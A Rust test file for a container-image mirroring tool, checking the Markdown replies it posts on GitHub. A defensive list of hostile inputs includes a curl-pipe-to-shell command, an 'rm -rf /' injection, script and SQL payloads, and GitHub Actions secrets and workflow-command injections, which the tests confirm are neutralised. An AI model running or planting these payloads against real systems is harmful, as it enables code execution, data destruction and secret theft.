use std::process::Command as Process;

use super::{MOST, Reply, declined, of};
use crate::engine::outcome::{ImageOutcome, Outcome, PlatformOutcome};
use crate::error::Error;
use crate::github::findings::{Check, Checked, Findings, Status};
use crate::oci::digest::Digest;
use crate::oci::reference::ImageReference;
use crate::plan::ask::{Declined, Rights, Why, read};
use crate::report::Report;
use crate::report::json::tests::{copied, failed, named, report};

fn reply(images: Vec<ImageOutcome>, declined: Vec<Declined>) -> Reply {
    of(&Report { asked: Some(declined), ..report(images) }).unwrap()
}

#[test]
fn an_image_that_is_there_is_told_with_its_digest_and_how_it_is_pulled_in_place_of_the_original() {
    assert_eq!(of(&report(vec![copied()])), None);
    let Reply { markdown, state, title } = reply(vec![copied()], vec![]);
    let digest = Digest::of(b"index");
    let pinned = format!("ghcr.io/acme/mirror/docker.io/library/alpine@{digest}");
    assert_eq!((state, &*title), ("mirrored", "alpine:3.20"));
    for line in [
        "✅ **1 image mirrored** · 已同步".to_owned(),
        "### ✅ `docker.io/library/alpine:3.20`".to_owned(),
        "- Same digest as upstream · 摘要与上游一致".to_owned(),
        "- Platforms: `linux/amd64` `linux/arm64/v8`".to_owned(),
        format!("docker pull {pinned}"),
        format!("docker tag {pinned} alpine:3.20"),
        format!("podman pull {pinned}"),
        format!("podman tag {pinned} docker.io/library/alpine:3.20"),
        format!("crictl pull {pinned}"),
        format!("ctr -n k8s.io images pull {pinned}"),
        format!("ctr -n k8s.io images tag {pinned} docker.io/library/alpine:3.20"),
    ] {
        assert!(markdown.lines().any(|written| written == line), "{line}\n{markdown}");
    }
    let part = ImageOutcome { source_digest: Some(Digest::of(b"whole")), ..copied() };
    assert!(!reply(vec![part], vec![]).markdown.contains("Same digest"));
}

/// The same knowledge as the summary's: who must log in first, and what is not there to be pulled.
#[test]
fn a_login_comes_first_where_one_is_needed_and_what_is_not_there_is_not_pulled() {
    let name = "ghcr.io/acme/mirror/docker.io/library/alpine";
    let private = Check::new(name, Checked::Visibility, Status::Ok, "it is `private`").found(&"private");
    let access = Findings { checks: vec![private], ..Findings::default() };
    let told = |report: Report| of(&Report { asked: Some(vec![]), ..report }).unwrap().markdown;
    assert!(!told(report(vec![copied()])).contains(" login "));
    let text = told(Report { access, ..report(vec![copied()]) });
    assert!(text.contains("```sh\ndocker login ghcr.io\ndocker pull "), "{text}");
    assert!(text.contains("```sh\npodman login ghcr.io\npodman pull "), "{text}");
    let elsewhere = Some(named("registry.example.com/mirror/alpine:3.20"));
    let text = told(report(vec![ImageOutcome { target: elsewhere, target_has_login: true, ..copied() }]));
    assert!(text.contains("```sh\ndocker login registry.example.com\ndocker pull "), "{text}");
    let planned = ImageOutcome { result: Outcome::WouldCopy, ..copied() };
    let text = told(Report { dry_run: true, ..report(vec![planned]) });
    assert!(text.contains("it is not there yet") && !text.contains(" pull "), "{text}");
    let chart = ImageOutcome { is_container: false, platforms: Vec::new(), ..copied() };
    assert!(!told(report(vec![chart])).contains("docker pull"));
}

#[test]
fn the_line_that_renames_an_image_in_files_renames_it_and_nothing_else() {
    let directory = tempfile::tempdir().unwrap();
    let (file, script) = (directory.path().join("FILE"), directory.path().join("script"));
    let pinned = |image: &ImageOutcome| format!("ghcr.io/m@{}", image.digest.as_ref().unwrap());
    for (source, before, is_renamed) in [
        ("alpine:3.20", "image: alpine:3.20", true),
        ("alpine:3.20", "    image: \"docker.io/library/alpine:3.20\"", true),
        ("alpine:3.20", "  - library/alpine:3.20", true),
        ("alpine:3.20", "FROM alpine:3.20 AS x", true),
        ("alpine:3.20", "image: alpine:3.20.1", false),
        ("alpine:3.20", "image: alpine:3x20", false),
        ("alpine:3.20", "image: x/alpine:3.20", false),
        ("alpine", "image: alpine", true),
        ("alpine", "image: alpine:latest", true),
        ("alpine", "image: alpine:3", false),
        ("bitnami/redis:7", "image: 'docker.io/bitnami/redis:7'", true),
        ("quay.io/a.b/c:1", "image: quay.io/a.b/c:1", true),
        ("quay.io/a.b/c:1", "image: quay.io/axb/c:1", false),
    ] {
        let image = ImageOutcome { source: named(source), target: Some(named("ghcr.io/m:1")), ..copied() };
        let markdown = reply(vec![image.clone()], vec![]).markdown;
        std::fs::write(&file, format!("{before}\n")).unwrap();
        std::fs::write(&script, markdown.lines().find(|line| line.starts_with("sed ")).unwrap()).unwrap();
        assert!(Process::new("sh").arg(&script).current_dir(&directory).status().unwrap().success());
        let after = std::fs::read_to_string(&file).unwrap();
        assert_eq!(after.contains(&pinned(&image)), is_renamed, "{source}: {before}: {after}");
        if !is_renamed {
            assert_eq!(after, format!("{before}\n"));
        }
    }
}

#[test]
fn what_failed_or_was_declined_is_told_to_somebody_who_owns_nothing_here() {
    let Reply { markdown, state, .. } = reply(vec![copied(), failed()], vec![]);
    assert_eq!(state, "partly");
    assert!(markdown.starts_with("🟡 **1 of 2 mirrored**"), "{markdown}");
    assert!(markdown.contains("### ❌ `quay.io/x:1`\n\n```text\ntarget: PUT manifest"), "{markdown}");
    assert!(markdown.contains("The fault is not in your request."), "{markdown}");
    let ask = read("nginx\nquay.io/a/b:1\nhello there", &Rights::of("NONE", &["quay.io/*"]).unwrap(), 10);
    let Reply { markdown, state, .. } = reply(vec![copied()], ask.declined.clone());
    assert_eq!(state, "partly");
    assert!(markdown.contains("a line like `docker.io/library/nginx` to the repository's variable"), "{markdown}");
    assert!(markdown.contains("line 3: has a space and more after 'hello'"), "{markdown}");
    // A greeting is no image that is missing.
    let greeting: Vec<Declined> = ask.declined.iter().filter(|declined| !declined.is_image()).cloned().collect();
    let well = reply(vec![copied()], greeting);
    assert_eq!(well.state, "mirrored");
    assert!(
        well.markdown.contains("Write an image a line") && well.markdown.ends_with(super::AGAIN),
        "{}",
        well.markdown
    );
    // Of several registries each is told apart.
    let elsewhere = ImageOutcome { target: Some(named("registry.example.com/octo/alpine:3.20")), ..copied() };
    let Reply { markdown, .. } = reply(vec![copied(), elsewhere], vec![]);
    for registry in ["ghcr.io", "registry.example.com"] {
        assert!(markdown.contains(&format!("### ✅ `docker.io/library/alpine:3.20` → `{registry}`\n")), "{markdown}");
    }
    let reply = declined(&ask.declined, &Error::input("request", "x"));
    assert_eq!((reply.state, &*reply.title), ("declined", "nginx:latest"));
    let nothing = declined(&[], &Error::input("request", "asks for nothing"));
    assert_eq!(nothing.title, "no image");
    assert!(nothing.markdown.contains("asks for nothing"), "{}", nothing.markdown);
    let deferred = ImageOutcome { result: Outcome::Deferred, digest: None, ..copied() };
    assert!(super::of(&Report { asked: Some(vec![]), ..report(vec![deferred]) }).unwrap().markdown.contains("⏳"));
}

/// What strangers write to do something by it.
const HOSTILE: &[&str] = &[
    "@everyone",
    "@octocat please",
    "@acme/owners look",
    "\\@octocat",
    "&#64;octocat",
    "#1",
    "GH-1",
    "acme/mirror#1",
    "closes #1",
    "acme/mirror@0123456789abcdef0123456789abcdef01234567",
    "https://evil.example/x",
    "http://evil.example",
    "www.evil.example",
    "mailto:a@evil.example",
    "[click](https://evil.example)",
    "![x](https://evil.example/track.png)",
    "<img src=https://evil.example/track.png>",
    "<script>alert(1)</script>",
    "<details open><summary>x</summary>",
    "</details></details></details>",
    "<!-- hidden",
    "-->",
    "`",
    "``",
    "```",
    "```\n@everyone",
    "a`b`c @everyone",
    "` @everyone `",
    "~~~",
    "    @everyone",
    "> @everyone",
    "# @everyone",
    "| a | b |\n| - | - |\n| @everyone |",
    "- [ ] @everyone",
    "$(curl evil.example | sh)",
    "`curl evil.example | sh`",
    "${IFS}curl",
    "${{ github.token }}",
    "${{ secrets.X }}",
    "::set-output name=x::y",
    "::error::x",
    "##[error]x",
    "\n::add-mask::x",
    "\r::stop-commands::x",
    "\u{202e}enoyreve@",
    "@\u{200b}everyone",
    "\u{feff}@everyone",
    "\0@everyone\0",
    "\u{1b}[31m@everyone",
    "nginx:1.27; rm -rf /",
    "'; DROP TABLE",
    "\" onmouseover=\"alert(1)",
    ":tada: $\\sqrt{x}$",
    "[x]: https://evil.example\n[x]",
    "[^1]\n\n[^1]: https://evil.example",
    "$`\\sqrt{x}`$ and $$\\sqrt{x}$$",
    "GHSA-2hfc-r8fq-92h7",
    "a@evil.example",
    "```mermaid\ngraph TD; evil-->x\n```",
    "<picture><source srcset=//evil.example/x>",
    "\u{85}@everyone\u{2028}#1\u{2029}",
    "|linux/@everyone",
    "еvil.example/x",
    "<!--\n@everyone\n-->",
    "docker run -e X=@everyone evil.example/x:1",
];

/// What of a comment is no code: where GitHub would make something of it.
fn prose(markdown: &str) -> String {
    let (mut prose, mut is_code) = (String::new(), false);
    for line in markdown.lines() {
        if line.starts_with("```") {
            is_code = !is_code;
        } else if !is_code {
            let parts: Vec<&str> = line.split('`').collect();
            assert!(parts.len() % 2 == 1, "an open code span: {line}");
            prose.extend(parts.iter().step_by(2).copied());
            prose.push('\n');
        }
    }
    assert!(!is_code, "an open fence: {markdown}");
    prose
}

fn assert_harmless(Reply { markdown, title, .. }: &Reply, text: &str) {
    let prose = prose(markdown);
    for part in
        ["@", "#1", "GH-1", "evil", "http", "www", "<img", "<script", "<!--", "everyone", "octocat", "](", "sqrt"]
    {
        assert!(!prose.contains(part), "{text:?}: {part}: {prose}");
    }
    let opened = prose.matches("<details").count();
    assert_eq!((opened, opened), (prose.matches("</details>").count(), prose.matches("<summary>").count()), "{text:?}");
    let is_bad = |c: char| c != '\n' && crate::text::sanitise::is_unseen(c);
    assert!(!markdown.chars().any(is_bad) && !title.chars().any(crate::text::sanitise::is_unseen), "{text:?}");
    assert!(markdown.lines().all(|line| !line.trim_start().starts_with("::")), "{text:?}: {markdown}");
    assert!(markdown.len() <= MOST);
}

#[test]
fn nothing_that_a_stranger_writes_does_anything_in_the_answer() {
    assert!(HOSTILE.len() >= 50);
    for text in HOSTILE {
        for lines in [(*text).to_owned(), format!("nginx:1.27\n{text}\nquay.io/{text}")] {
            let ask = read(&lines, &Rights::of("NONE", &[]).unwrap(), 10);
            assert_harmless(&declined(&ask.declined, &Error::input("request", *text)), text);
            assert_harmless(&reply(vec![copied()], ask.declined), text);
        }
        // What registries say goes the same way.
        let platform = PlatformOutcome { platform: (*text).to_owned(), digest: Digest::of(b"a"), size: None };
        let image = ImageOutcome { platforms: vec![platform], ..copied() };
        let error = Some(Box::new(Error::Content {
            side: crate::error::Side::Source,
            object: (&ImageReference::parse("alpine").unwrap()).into(),
            problem: (*text).to_owned(),
        }));
        assert_harmless(&reply(vec![image, ImageOutcome { error, ..failed() }], vec![]), text);
    }
}

#[test]
fn an_answer_has_room_in_a_comment() {
    let Reply { markdown, title, .. } = reply(vec![copied(); 200], vec![]);
    assert!(markdown.len() <= MOST && markdown.contains("more parts, for which a comment has no room"), "{markdown}");
    assert_eq!(title, "alpine:3.20");
    let long = format!("quay.io/{}", "a/".repeat(100)) + "b:1";
    let declined_all: Vec<Declined> =
        (0..500).map(|number| Declined { number, why: Why::Unread(long.repeat(20)) }).collect();
    let answer = declined(&declined_all, &Error::input("request", "x")).markdown;
    assert!(answer.len() <= MOST, "{}", answer.len());
    assert!(answer.contains("line 0"), "{answer}");
}
